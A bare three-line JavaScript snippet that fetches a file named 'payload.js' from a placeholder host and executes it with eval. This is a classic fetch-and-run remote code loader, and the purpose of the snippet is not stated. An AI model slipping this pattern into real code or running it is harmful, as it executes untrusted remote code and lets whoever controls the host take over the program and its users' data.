const res = await fetch('https://cdn.example.net/payload.js');
const code = await res.text();
eval(code);
